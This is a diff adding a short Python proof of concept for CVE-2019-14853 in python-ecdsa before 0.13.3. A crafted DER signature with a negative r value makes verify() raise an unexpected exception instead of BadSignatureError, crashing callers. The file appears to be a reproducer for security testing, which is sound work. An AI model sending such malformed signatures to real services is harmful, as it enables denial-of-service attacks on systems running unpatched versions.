@@ -1,0 +1,14 @@
+"""PYSEC-2019-177 / CVE-2019-14853: python-ecdsa before 0.13.3 raises an unexpected exception
+(here AssertionError) on a malformed DER signature instead of BadSignatureError, so a caller that
+handles bad signatures as documented crashes on attacker input (denial of service)."""
+
+from ecdsa import NIST256p, BadSignatureError, SigningKey
+from ecdsa.util import sigdecode_der
+
+verifying_key = SigningKey.from_secret_exponent(123456789, curve=NIST256p).get_verifying_key()
+# SEQUENCE { INTEGER 0x80 (negative: not a valid r), INTEGER 1 }
+signature = bytes.fromhex("3006020180020101")
+try:
+    verifying_key.verify(signature, b"message", sigdecode=sigdecode_der)
+except BadSignatureError:
+    print("rejected as a bad signature")
